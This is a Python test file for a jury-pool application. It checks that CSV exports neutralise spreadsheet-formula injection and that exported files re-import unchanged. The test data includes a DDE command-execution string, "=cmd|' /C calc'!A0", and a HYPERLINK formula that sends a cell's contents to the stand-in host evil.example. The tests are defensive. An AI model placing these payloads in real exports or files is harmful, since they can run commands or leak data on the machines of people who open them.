"""Issue 14, H2: the jury pool's exports (the full export with contact details, the
anonymised respondents file, the categories file) write residents' fields as text, never
a formula, whatever they typed or an imported file held; a file Consult exported imports
again as what was typed."""

from __future__ import annotations

import csv
import io

from consult.extensions import db
from consult.models import Registrant, utcnow
from tests.hostile import PAYLOADS, formula_cells, hostile_texts
from tests.juries.conftest import person_features
from tests.juries.test_jury_pool import _upload


def _rows(client, url: str) -> list[list[str]]:  # type: ignore[no-untyped-def]
    response = client.get(url)
    assert response.status_code == 200, url
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_hostile_registrant_fields_export_as_text(app, officer_client, make_pool_jury, slug_of):
    jury_id = make_pool_jury(people=0)
    with app.app_context():
        texts = hostile_texts(nul=db.engine.dialect.name != "postgresql")
        for index, text in enumerate(texts):
            db.session.add(
                Registrant(
                    jury_id=jury_id,
                    first_name=text,
                    last_name=PAYLOADS[index % len(PAYLOADS)],
                    email=f"p{index}@example.org",
                    phone="+44 7700 900123",
                    address_line="=cmd|' /C calc'!A0",
                    postcode="RV1 1AA",
                    features=person_features(index),
                    consented_at=utcnow(),
                )
            )
        db.session.commit()
    slug = slug_of(jury_id)
    full = _rows(officer_client, f"/juries/{slug}/pool/export.csv")
    assert len(full) == len(texts) + 1
    assert formula_cells([cell for row in full for cell in row]) == []
    header = full[0]
    first_names = [row[header.index("first_name")] for row in full[1:]]
    assert first_names[0] == "'" + PAYLOADS[0]
    assert {row[header.index("address_line")] for row in full[1:]} == {"'=cmd|' /C calc'!A0"}
    assert {row[header.index("phone")] for row in full[1:]} == {"'+44 7700 900123"}
    for url in (f"/juries/{slug}/pool/respondents.csv", f"/juries/{slug}/quotas/categories.csv"):
        rows = _rows(officer_client, url)
        assert len(rows) > 1 and formula_cells([cell for row in rows for cell in row]) == []


def test_imported_names_export_as_text_and_import_again_unchanged(
    app, officer_client, make_pool_jury, slug_of
):
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+Smith", "-Jones", "@Jones"]
    lines = ["id,gender,age,first_name,last_name,address"]
    for number, name in enumerate(names):
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(f"X{number},woman,young,{quoted},-Jones,\"=cmd|' /C calc'!A0\"")
    first = slug_of(make_pool_jury(people=0))
    assert (
        _upload(officer_client, f"/juries/{first}/pool/import", "\n".join(lines)).status_code == 200
    )
    exported = officer_client.get(f"/juries/{first}/pool/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert formula_cells([cell for row in rows for cell in row]) == []
    assert [row[3] for row in rows[1:]] == ["'" + name for name in names]

    second_id = make_pool_jury(people=0)
    again = _upload(officer_client, f"/juries/{slug_of(second_id)}/pool/import", exported)
    assert again.status_code == 200
    with app.app_context():
        people = db.session.scalars(
            db.select(Registrant).where(Registrant.jury_id == second_id).order_by(Registrant.id)
        ).all()
        assert [(p.first_name, p.last_name, p.address_line) for p in people] == [
            (name, "-Jones", "=cmd|' /C calc'!A0") for name in names
        ]
